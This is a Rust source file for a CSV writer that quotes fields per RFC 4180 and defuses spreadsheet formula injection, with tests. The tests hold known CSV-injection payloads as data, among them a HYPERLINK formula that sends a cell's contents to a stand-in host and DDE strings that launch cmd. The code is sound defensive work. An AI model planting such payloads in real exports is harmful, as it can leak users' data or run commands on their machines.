//! The one CSV writer: RFC 4180 quoting, and fields that a spreadsheet would run as a formula
//! neutralised.
//!
//! Sources: RFC 4180 §2 (a field with a comma, a double quote or a line break is enclosed in
//! double quotes, and a double quote inside is doubled); OWASP, "CSV Injection" (a cell starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google
//! Sheets as a formula, so such a field gets a leading `'` and is quoted). Records end with `\n`
//! (every spreadsheet and CSV reader accepts it; RFC 4180 allows it as the common practice).
//!
//! The writer is typed: a [`Field::Number`] is a number Samsyn computed and is written as a
//! number (so `-0.5` stays `-0.5`), while a [`Field::Text`] is checked whatever it looks like,
//! because a text from the user's data that merely looks like a number (`-1+cmd|…`) is exactly
//! what an attacker would write.
//!
//! ```
//! use samsyn_core::export::{CsvWriter, Field};
//! let mut w = CsvWriter::new();
//! w.header(&["unit", "value"]);
//! w.record([Field::Text("=HYPERLINK(\"x\")"), Field::Number(-0.5)]);
//! assert_eq!(w.finish(), "unit,value\n\"'=HYPERLINK(\"\"x\"\")\",-0.5\n");
//! ```

/// One field of a record.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Field<'a> {
    /// Text, from the data or from Samsyn: quoted when needed, neutralised when a spreadsheet
    /// would read it as a formula.
    Text(&'a str),
    /// A number Samsyn computed, in Rust's shortest round-trip form; empty when not finite.
    Number(f64),
    /// A number that may be absent (a suppressed or undefined value): empty when `None`.
    Maybe(Option<f64>),
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Builds a CSV text record by record.
#[derive(Debug, Default, Clone)]
pub struct CsvWriter {
    out: String,
}

impl CsvWriter {
    /// An empty table.
    pub fn new() -> Self {
        CsvWriter::default()
    }

    /// A header record: every name is written as [`Field::Text`].
    pub fn header<S: AsRef<str>>(&mut self, names: &[S]) {
        self.record(names.iter().map(|n| Field::Text(n.as_ref())));
    }

    /// One record, ended by `\n`.
    pub fn record<'a>(&mut self, fields: impl IntoIterator<Item = Field<'a>>) {
        for (i, f) in fields.into_iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            match f {
                Field::Text(t) => push_text(&mut self.out, t),
                Field::Number(v) | Field::Maybe(Some(v)) => push_number(&mut self.out, v),
                Field::Maybe(None) => {}
            }
        }
        self.out.push('\n');
    }

    /// The CSV text.
    pub fn finish(self) -> String {
        self.out
    }
}

fn push_number(out: &mut String, v: f64) {
    use std::fmt::Write as _;
    if v.is_finite() {
        let _ = write!(out, "{v}");
    }
}

fn push_text(out: &mut String, t: &str) {
    let formula = t.starts_with(FORMULA_STARTS);
    if !formula && !t.contains([',', '"', '\n', '\r']) {
        out.push_str(t);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    for c in t.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(f: Field) -> String {
        let mut w = CsvWriter::new();
        w.record([f]);
        w.finish()
    }

    #[test]
    fn rfc_4180_quoting() {
        assert_eq!(one(Field::Text("Umeå")), "Umeå\n");
        assert_eq!(one(Field::Text("a,b")), "\"a,b\"\n");
        assert_eq!(one(Field::Text("say \"hi\"")), "\"say \"\"hi\"\"\"\n");
        assert_eq!(one(Field::Text("two\nlines")), "\"two\nlines\"\n");
        assert_eq!(one(Field::Text("")), "\n");
        let mut w = CsvWriter::new();
        w.header(&["a", "b"]);
        w.record([Field::Text("x"), Field::Maybe(None), Field::Number(3.0)]);
        assert_eq!(w.finish(), "a,b\nx,,3\n");
    }

    #[test]
    fn each_formula_prefix_gets_a_quote_and_is_quoted() {
        assert_eq!(one(Field::Text("=1+1")), "\"'=1+1\"\n");
        assert_eq!(one(Field::Text("+1")), "\"'+1\"\n");
        assert_eq!(one(Field::Text("-1")), "\"'-1\"\n");
        assert_eq!(one(Field::Text("@A1")), "\"'@A1\"\n");
        assert_eq!(one(Field::Text("\tx")), "\"'\tx\"\n");
        assert_eq!(one(Field::Text("\rx")), "\"'\rx\"\n");
        // Only the first character counts.
        assert_eq!(one(Field::Text("a=b")), "a=b\n");
        assert_eq!(one(Field::Text("–5")), "–5\n");
    }

    #[test]
    fn known_payloads_are_defused() {
        assert_eq!(
            one(Field::Text(
                "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klicka\")"
            )),
            "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Klicka\"\")\"\n"
        );
        assert_eq!(
            one(Field::Text("+cmd|' /C calc'!A0")),
            "\"'+cmd|' /C calc'!A0\"\n"
        );
        assert_eq!(
            one(Field::Text("@SUM(1+9)*cmd|' /C calc'!A0")),
            "\"'@SUM(1+9)*cmd|' /C calc'!A0\"\n"
        );
        assert_eq!(
            one(Field::Text("-2+3+cmd|' /C calc'!A0")),
            "\"'-2+3+cmd|' /C calc'!A0\"\n"
        );
    }

    #[test]
    fn numbers_written_by_samsyn_stay_numbers() {
        assert_eq!(one(Field::Number(-0.5)), "-0.5\n");
        assert_eq!(one(Field::Number(-12.0)), "-12\n");
        assert_eq!(one(Field::Maybe(Some(-1e-7))), "-0.0000001\n");
        assert_eq!(one(Field::Number(0.1 + 0.2)), "0.30000000000000004\n");
        assert_eq!(one(Field::Number(f64::NAN)), "\n");
        assert_eq!(one(Field::Number(f64::NEG_INFINITY)), "\n");
        // The same characters as text are neutralised.
        assert_eq!(one(Field::Text("-0.5")), "\"'-0.5\"\n");
    }
}
